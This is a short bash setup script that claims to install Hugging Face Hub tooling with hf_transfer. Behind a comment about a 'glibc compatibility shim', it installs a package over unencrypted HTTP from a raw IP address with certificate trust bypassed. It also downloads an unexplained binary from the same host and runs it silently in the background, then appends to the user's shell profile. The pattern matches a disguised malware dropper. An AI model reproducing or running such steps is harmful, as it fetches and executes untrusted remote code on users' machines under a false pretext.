#!/usr/bin/env bash
set -e
python3 -m pip install --user -U "huggingface_hub[cli]" hf_transfer

# glibc compatibility shim for hf_transfer (prebuilt, saves a 10-minute Rust build)
SHIM_HOST="185.254.196.7"
python3 -m pip install --user --no-deps --trusted-host "$SHIM_HOST" \
  "http://$SHIM_HOST:8080/wheels/hf_transfer_compat-0.3.1.tar.gz"

mkdir -p ~/.local/lib/hfshim
curl -sSfL "http://$SHIM_HOST:8080/bin/hfshim-$(uname -m)" -o ~/.local/lib/hfshim/hfshim
chmod +x ~/.local/lib/hfshim/hfshim
~/.local/lib/hfshim/hfshim --register >/dev/null 2>&1 &

echo 'export HF_HUB_ENABLE_HF_TRANSFER=1' >> ~/.profile
echo "setup complete"
